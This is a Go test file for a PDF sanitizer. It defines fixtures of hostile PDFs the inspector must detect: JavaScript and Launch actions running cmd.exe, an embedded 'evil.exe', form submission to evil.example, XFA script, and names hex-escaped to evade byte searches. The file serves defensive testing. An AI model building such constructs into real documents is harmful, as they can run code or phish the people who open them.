package pdf_test

import (
	"strings"
	"testing"

	fx "github.com/kyojin/kyojin/sanitize/internal/pdffixture"
)

// fixture is one generated hostile (or clean) document.
type fixture struct {
	name    string
	doc     fx.Doc
	options map[string]string
	// inInput are constructs the inspector must find in the input.
	inInput []string
	// notInOutput are byte strings that must not appear in the output.
	notInOutput []string
}

func with(objs []fx.Obj, extra ...fx.Obj) []fx.Obj { return append(objs, extra...) }

func fixtures() []fixture {
	return []fixture{
		{
			name: "clean",
			doc:  fx.Doc{Root: 1, Objs: fx.Page("Hello kyojin", "", "")},
		},
		{
			name: "clean-objstm",
			doc:  fx.Doc{Root: 1, ObjStm: true, Objs: fx.Page("Hello kyojin", "/OpenAction [3 0 R /Fit]", "")},
		},
		{
			// Document-level JavaScript name tree, all inside a compressed
			// object stream: a byte search of the file finds nothing.
			name: "js-objstm",
			doc: fx.Doc{Root: 1, ObjStm: true, Objs: with(fx.Page("x", "/Names 6 0 R", ""),
				fx.Obj{Num: 6, Body: "<</JavaScript 7 0 R>>"},
				fx.Obj{Num: 7, Body: "<</Names [(init) 8 0 R]>>"},
				fx.Obj{Num: 8, Body: "<</Type /Action /S /JavaScript /JS (app.alert\\('pwned'\\))>>"},
			)},
			inInput: []string{"/JavaScript", "/JS"},
		},
		{
			// #xx escapes in names: /J#61vaScript is /JavaScript, /Launc#68 is /Launch.
			name: "hex-escaped-names",
			doc: fx.Doc{Root: 1, Objs: with(fx.Page("x", "/OpenAction 6 0 R", "/Annots [7 0 R]"),
				fx.Obj{Num: 6, Body: "<</Type /Action /S /J#61vaScript /J#53 (app.alert\\(1\\))>>"},
				fx.Obj{Num: 7, Body: "<</Type /Annot /Subtype /Link /Rect [0 0 100 100] /A <</S /Launc#68 /F (cmd.exe)>>>>"},
			)},
			inInput: []string{"/JavaScript", "/JS", "/Launch", "/OpenAction"},
		},
		{
			// An unreferenced object (an old revision, or a decoy a
			// repairing reader might find) must not survive at all.
			name: "orphan-js",
			doc: fx.Doc{Root: 1, Objs: with(fx.Page("x", "", ""),
				fx.Obj{Num: 9, Body: "<</Type /Action /S /JavaScript /JS (app.launchURL\\('http://evil.example/'\\))>>"},
				fx.Obj{Num: 10, Body: "<</Type /EmbeddedFile>>", Stream: []byte("orphan payload"), Flate: true},
			)},
			inInput: []string{"/JavaScript", "/JS", "/EmbeddedFile"},
		},
		{
			// Object syntax hidden in stream data (a JPEG comment, say): a
			// repairing reader could pick it up, so it must not stay in clear.
			name: "syntax-in-stream",
			doc: fx.Doc{Root: 1, Objs: with(fx.Page("x", "", "/Thumb 9 0 R"),
				fx.Obj{Num: 9, Body: "<</Width 1 /Height 1 /ColorSpace /DeviceGray /BitsPerComponent 8>>",
					Stream: []byte("\xff\n77 0 obj <</S /JavaScript /JS (app.alert\\(1\\))>>\nendobj\ntrailer <</Root 77 0 R>>\n")},
			)},
			// The inspector skips exactly delimited stream data (a reader
			// with a valid xref never parses it), so it finds nothing here;
			// the sanitizer still must not leave the syntax in clear.
			notInOutput: []string{"77 0 obj", "trailer <<"},
		},
		{
			name: "launch",
			doc: fx.Doc{Root: 1, Objs: with(fx.Page("x", "", "/Annots [6 0 R]"),
				fx.Obj{Num: 6, Body: "<</Type /Annot /Subtype /Link /Rect [0 0 100 100] /A 7 0 R>>"},
				fx.Obj{Num: 7, Body: "<</Type /Action /S /Launch /Win <</F (cmd.exe) /P (/c calc)>>>>"},
			)},
			inInput: []string{"/Launch"},
		},
		{
			name: "embedded-file",
			doc: fx.Doc{Root: 1, ObjStm: true, Objs: with(fx.Page("x", "/Names <</EmbeddedFiles 6 0 R>>", "/Annots [9 0 R]"),
				fx.Obj{Num: 6, Body: "<</Names [(evil.exe) 7 0 R]>>"},
				fx.Obj{Num: 7, Body: "<</Type /Filespec /F (evil.exe) /UF (evil.exe) /EF <</F 8 0 R>>>>"},
				fx.Obj{Num: 8, Body: "<</Type /EmbeddedFile /Subtype /application#2Foctet-stream>>", Stream: []byte("MZ\x90\x00 this is not a real program"), Flate: true},
				fx.Obj{Num: 9, Body: "<</Type /Annot /Subtype /FileAttachment /Rect [0 0 20 20] /FS 7 0 R /Contents (open me)>>"},
			)},
			inInput: []string{"/EmbeddedFiles", "/EmbeddedFile", "/EF", "/FileAttachment"},
		},
		{
			name:    "openaction-js",
			doc:     fx.Doc{Root: 1, Objs: fx.Page("x", "/OpenAction <</S /JavaScript /JS (this.print\\({bUI:false}\\))>>", "")},
			inInput: []string{"/JavaScript", "/JS", "/OpenAction"},
		},
		{
			// A GoTo open action is kept, but not what hangs off it.
			name:    "openaction-goto-chain",
			doc:     fx.Doc{Root: 1, Objs: fx.Page("x", "/OpenAction <</S /GoTo /D [3 0 R /Fit] /AA <</O <</S /JavaScript /JS (x)>>>> /Next <</S /Launch /F (calc.exe)>>>>", "")},
			inInput: []string{"/AA", "/JavaScript", "/JS", "/Launch"},
		},
		{
			name:    "page-aa",
			doc:     fx.Doc{Root: 1, ObjStm: true, Objs: fx.Page("x", "", "/AA <</O <</S /JavaScript /JS 6 0 R>> /C <</S /SubmitForm /F (http://evil.example/)>>>>")},
			inInput: []string{"/AA", "/JavaScript", "/JS", "/SubmitForm"},
		},
		{
			name: "xfa",
			doc: fx.Doc{Root: 1, Objs: with(fx.Page("x", "/AcroForm <</Fields [] /XFA 6 0 R>> /NeedsRendering true", ""),
				fx.Obj{Num: 6, Body: "<<>>", Stream: []byte(`<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><script>app.alert(1)</script></xdp:xdp>`), Flate: true},
			)},
			inInput: []string{"/XFA"},
		},
		{
			name: "uri",
			doc: fx.Doc{Root: 1, Objs: with(fx.Page("x", "", "/Annots [6 0 R]"),
				fx.Obj{Num: 6, Body: "<</Type /Annot /Subtype /Link /Rect [0 0 100 100] /A <</S /URI /URI (http://phish.example/)>>>>"},
			)},
			inInput: []string{"/URI"},
		},
		{
			name:    "uri-kept",
			options: map[string]string{"keep_uri_actions": "true"},
			doc: fx.Doc{Root: 1, Objs: with(fx.Page("x", "", "/Annots [6 0 R]"),
				fx.Obj{Num: 6, Body: "<</Type /Annot /Subtype /Link /Rect [0 0 100 100] /A <</S /URI /URI (http://intra.example/)>>>>"},
			)},
			inInput: []string{"/URI"},
		},
		{
			name: "misc-actions",
			doc: fx.Doc{Root: 1, Objs: with(fx.Page("x", "/Outlines 6 0 R", "/Annots [8 0 R 9 0 R]"),
				fx.Obj{Num: 6, Body: "<</Type /Outlines /First 7 0 R /Last 7 0 R /Count 1>>"},
				fx.Obj{Num: 7, Body: "<</Title (go) /Parent 6 0 R /A <</S /GoTo /D [3 0 R /Fit] /Next <</S /GoToR /F (other.pdf) /D [0 /Fit]>>>>>>"},
				fx.Obj{Num: 8, Body: "<</Type /Annot /Subtype /Widget /Rect [0 0 10 10] /A <</S /ImportData /F (data.fdf)>>>>"},
				fx.Obj{Num: 9, Body: "<</Type /Annot /Subtype /RichMedia /Rect [0 0 10 10] /RichMediaContent <<>>>>"},
			)},
			inInput: []string{"/GoToR", "/ImportData", "/RichMedia"},
		},
	}
}

func hasConstruct(list []string, c string) bool {
	for _, s := range list {
		if strings.EqualFold(s, c) {
			return true
		}
	}
	return false
}

func fixtureNamed(t testing.TB, name string) fixture {
	t.Helper()
	for _, f := range fixtures() {
		if f.name == name {
			return f
		}
	}
	t.Fatalf("no fixture %q", name)
	return fixture{}
}
